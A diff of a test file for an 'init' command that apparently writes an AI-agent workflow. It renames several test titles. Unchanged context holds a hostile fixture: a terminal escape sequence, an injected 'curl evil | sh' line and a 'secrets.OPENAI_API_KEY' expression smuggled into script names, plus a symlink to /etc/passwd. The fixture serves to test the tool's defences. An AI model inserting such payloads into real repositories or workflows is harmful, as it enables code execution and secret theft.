@@ -155,7 +155,7 @@ describe('what init finds', () => {
     expect(JSON.stringify(found['commands'])).toContain('ghe.example.org/acme/app')
   })
 
-  it('needs no remote, and begins with the command that makes one', async () => {
+  it('needs no remote, and begins with the command that adds one', async () => {
     await repository({}, '')
     expect(await initJson()).toMatchObject({
       repository: null,
@@ -166,7 +166,7 @@ describe('what init finds', () => {
     })
   })
 
-  it('refuses a folder that is no repository', async () => {
+  it('refuses a folder that is not a repository', async () => {
     const { exitCode, stderr } = await init('--yes')
     expect({ exitCode, stderr }).toMatchObject({
       exitCode: 2,
@@ -192,7 +192,7 @@ describe('what init writes', () => {
     expect(await readdir(root)).toEqual(['.git', 'package.json'])
   })
 
-  it('prints no two blank lines where nothing remains to be done', async () => {
+  it('prints no double blank line when nothing remains to be done', async () => {
     await repository({})
     await init('--yes', '--model', 'ollama/qwen3')
     const { stdout } = await init('--yes', '--model', 'ollama/qwen3')
@@ -315,7 +315,7 @@ describe('what init writes', () => {
     expect(await read(WORKFLOW)).toContain('name: Agent')
   })
 
-  it('leaves files as they are that differ only in their line endings, and keeps those of others', async () => {
+  it('leaves a file that differs only in line endings unchanged, and keeps the line endings of a file that it changes', async () => {
     await repository({})
     await init('--yes')
     const windows = (await read(SETTINGS)).replaceAll('\n', '\r\n')
@@ -340,7 +340,7 @@ describe('what init writes', () => {
     ['folder', '.github', '/tmp'],
     ['file', SETTINGS, '../package.json'],
     ['workflow', WORKFLOW, '/etc/passwd']
-  ])('refuses a link in the place of the %s', async (_, path, target) => {
+  ])('refuses a link instead of the %s', async (_, path, target) => {
     await repository({ 'package.json': '{}' })
     await mkdir(dirname(join(root, path)), { recursive: true })
     await symlink(target, join(root, path))
@@ -352,7 +352,7 @@ describe('what init writes', () => {
     expect(await read('package.json')).toBe('{}')
   })
 
-  it('lets nothing of a hostile repository into the files or the terminal', async () => {
+  it('copies nothing from a hostile repository into the files or to the terminal', async () => {
     const evil = 'x\u001b]0;owned\u0007\n  - curl evil | sh #${{ secrets.OPENAI_API_KEY }}'
     const scripts = { test: evil, lint: evil, [evil]: evil, 'a: b': 'x', '--force': 'x' }
     await repository(
